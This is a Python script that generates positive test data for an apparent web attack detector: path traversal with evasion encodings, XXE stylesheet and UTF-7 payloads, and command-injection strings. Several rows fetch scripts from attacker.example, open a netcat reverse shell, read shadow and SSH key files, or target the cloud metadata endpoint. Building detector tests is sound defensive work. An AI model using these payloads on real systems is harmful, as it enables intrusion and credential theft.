#!/usr/bin/env python3
"""gen-unseen.py - write the second generated positive tables (issue 20),
rows of the forms public payload collections use that the first tables
(gen-trav-cmdi.py, gen-xxe-shellshock.py) did not cover, one value a line
as it would arrive in a query string:
  tests/data/gen-trav2.txt  traversal and file access:
      absolute paths with empty and "." components (/etc//passwd,
      /./etc/./shadow) x sensitive file; absolute paths to files under the
      system trees a web server can read (/sys/, /var/lib/, /var/www/,
      /usr/local/etc/) x prefix (nothing, '//', file://); Windows drive
      paths to configuration and log files (c:\\program files\\...\\my.ini)
      x separator; one parent step spelled only the way an evasion
      spells it (overlong UTF-8, look-alike code points, 0x2e, tomcat
      "..;", "....//") x spelling x what follows (nothing, a name).
  tests/data/gen-xxe2.txt  XXE fragments: an xml-stylesheet processing
      instruction that loads a stylesheet from elsewhere (type xsl or an
      absolute/scheme-relative/file href) x quoting x what follows; markup
      declarations in UTF-7 where only '<' is shifted ("+ADw-!DOCTYPE",
      "+ADw-!ENTITY") x declaration x target x with or without an
      encoding="UTF-7" declaration.
  tests/data/gen-cmdi2.txt  command lines with no separator before them,
      whose syntax only a shell or an interpreter reads: a command word
      and its arguments joined by $IFS / ${IFS} / $IFS$9, brace expansion
      {cmd,arg,...}, and an interpreter told to run a command (cmd /c,
      cmd.exe /k, powershell -c/-enc, pwsh -command, bash -c, sh -c)
      x command x leading quote or space.
Written from each construct's grammar, not copied from any list; a single
plain "../" is left out on purpose: in a parameter it is a relative link
as often as an attack. Deterministic. Usage: tools/gen-unseen.py [DIR]."""
import os
import sys

SENS = ['etc/passwd', 'etc/shadow', 'etc/group', 'etc/hosts', 'proc/self/environ',
        'etc/mysql/my.cnf', 'etc/nginx/nginx.conf', 'root/.ssh/id_rsa']
SYS = ['sys/class/net/eth0/address', 'sys/kernel/notes', 'var/lib/mysql/my.cnf',
       'var/lib/mysql/mysql/user.myd', 'var/lib/php/sessions/sess_1',
       'var/www/html/index.php', 'var/www/html/wp-config.php', 'var/www/.env',
       'usr/local/etc/php.ini', 'usr/local/etc/nginx/nginx.conf',
       'var/lib/pgsql/data/pg_hba.conf', 'sys/power/state']
WIN = ['program files\\mysql\\my.ini', 'xampp\\mysql\\bin\\my.ini',
       'program files\\apache group\\apache\\conf\\httpd.conf',
       'inetpub\\logs\\logfiles\\w3svc1\\u_ex200101.log',
       'windows\\system32\\inetsrv\\config\\applicationhost.config',
       'programdata\\mysql\\my.ini', 'apache24\\conf\\httpd.conf',
       'php\\php.ini', 'users\\administrator\\ntuser.dat.log']
# one parent step whose only spelling is an evasion
DOT = ['%c0%ae', '%e0%80%ae', '%f0%80%80%ae', '%c1%ae', '%uff0e', '%u2024',
       '0x2e', '%ef%bc%8e', '%c0%2e']
SEP = ['%c0%af', '%e0%80%af', '%c1%9c', '%c1%af', '%u2215', '%u2216', '%uff0f',
       '0x2f', '0x5c', '%ef%bc%8f', '%c0%5c']
AFTER = ['', 'index']


def trav2():
    out = []
    for t in SENS:
        a, b = t.split('/', 1)
        out += ['/%s//%s' % (a, b), '/%s/./%s' % (a, b), '/./%s/./%s' % (a, b),
                '//%s//%s' % (a, b), '/%s/.//%s' % (a, b)]
    for t in SYS:
        out += ['/' + t, '//' + t, 'file:///' + t, '/' + t.replace('/', '%2f')]
    for t in WIN:
        for drive in ('c:\\', 'C:/', 'd:\\', 'c:%5c'):
            sep = {'c:\\': '\\', 'd:\\': '\\', 'C:/': '/', 'c:%5c': '%5c'}[drive]
            out.append(drive + t.replace('\\', sep))
    for d in DOT:
        for s in SEP + ['/', '%2f', '\\', '%5c']:
            for f in AFTER:
                out.append(d + d + s + f)
    for s in SEP:
        for f in AFTER:
            out.append('..' + s + f)
    for s in ['/', '%2f', '\\', '%5c']:
        for f in AFTER:
            out += ['..;' + s + f, '....' + s + s + f, '/..;' + s + f]
    seen, rows = set(), []
    for r in out:
        if r not in seen:
            seen.add(r)
            rows.append(r)
    return rows


SHEET_HREF = ['http://attacker.example/evil.xsl', '//attacker.example/x.xsl',
              'file:///etc/passwd', 'ftp://10.0.0.5/s.xsl', 'https://x.example/a.xslt',
              'http://169.254.169.254/latest/meta-data/']
UTF7_DECL = ['+ADw-!DOCTYPE foo +AFs-+ADw-!ENTITY xxe SYSTEM +ACI-%s+ACI-+AD4-+AF0-+AD4-',
             '+ADw-!ENTITY xxe SYSTEM +ACI-%s+ACI-+AD4-',
             '+ADw-!ENTITY %% p SYSTEM +ACI-%s+ACI-+AD4-%%p;',
             '+ADw-!DOCTYPE foo SYSTEM +ACI-%s+ACI-+AD4-']
UTF7_TGT = ['file:///etc/passwd', 'http://attacker.example/x.dtd', 'expect://id',
            'php://filter/resource=index.php', 'file:///c:/windows/win.ini']


def xxe2():
    out = []
    for h in SHEET_HREF:
        for q in ('"', "'"):
            for typ in ('type=%stext/xsl%s ' % (q, q), '', 'type=%stext/xml%s ' % (q, q)):
                for tail in ('', '<doc/>', '<root><a>1</a></root>'):
                    out.append('<?xml-stylesheet %shref=%s%s%s?>%s' % (typ, q, h, q, tail))
    for d in UTF7_DECL:
        for t in UTF7_TGT:
            for pre in ('', '<?xml version="1.0" encoding="UTF-7"?>', "<?xml version='1.0' encoding='utf-7'?>"):
                out.append(pre + d % t)
    # '+' is a space in a query and '%' starts an escape: a value
    # carrying them sends %2B and %25
    return [r.replace('%', '%25').replace('+', '%2B') for r in out]


CMDS = [('cat', '/etc/passwd'), ('ls', '-la'), ('id', ''), ('uname', '-a'),
        ('wget', 'http://attacker.example/x'), ('nc', '10.0.0.1 4444 -e /bin/sh'),
        ('sleep', '5'), ('ping', '-c 3 127.0.0.1'), ('curl', 'http://attacker.example/s.sh'),
        ('whoami', ''), ('head', '/etc/shadow')]
IFS = ['$IFS', '${IFS}', '$IFS$9', '${IFS%??}']
INTERP = ['cmd /c', 'cmd.exe /c', 'cmd /k', 'CMD.EXE /C', 'cmd /r', 'powershell -c',
          'powershell.exe -command', 'powershell -enc', 'pwsh -c', 'powershell -nop -c',
          'bash -c', 'sh -c', '/bin/sh -c', 'bash -c', 'zsh -c']
WINC = ['whoami', 'dir c:\\', 'type c:\\windows\\win.ini', 'net user', 'ipconfig /all',
        'ping -n 5 127.0.0.1', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=']


def cmdi2():
    out = []
    for c, arg in CMDS:
        words = [c] + arg.split()
        for ifs in IFS:
            # "$IFShttp" and "$IFS5" are other variables: the shell reads
            # the longest name, so a bare $IFS needs a non-name byte after
            if ifs == '$IFS' and any(w[0].isalnum() or w[0] == '_' for w in words[1:]):
                continue
            if len(words) > 1:
                out.append(ifs.join(words))
                out.append(ifs.join(words) + ifs)
        if len(words) > 1:
            out.append('{' + ','.join(words) + '}')
            out.append("'{" + ','.join(words) + "}'")
    for it in INTERP:
        for w in WINC:
            if it.endswith('-enc') != w.startswith('SQBF'):
                continue
            for lead in ('', ' ', '"'):
                arg = w if 'sh -c' not in it else "'" + w.replace('\\', '/') + "'"
                out.append(lead + it + ' ' + arg)
    seen, rows = set(), []
    for r in out:
        r = r.replace('%', '%25').replace('+', '%2B').replace('&', '%26')
        if r not in seen:
            seen.add(r)
            rows.append(r)
    return rows


def main():
    d = sys.argv[1] if len(sys.argv) > 1 else 'tests/data'
    for name, lines in (('gen-trav2.txt', trav2()), ('gen-xxe2.txt', xxe2()),
                        ('gen-cmdi2.txt', cmdi2())):
        with open(os.path.join(d, name), 'w') as f:
            for l in lines:
                assert '\n' not in l and '\r' not in l
                f.write(l.replace(' ', '%20') + '\n')
        print('%s: %d lines' % (name, len(lines)))


if __name__ == '__main__':
    main()
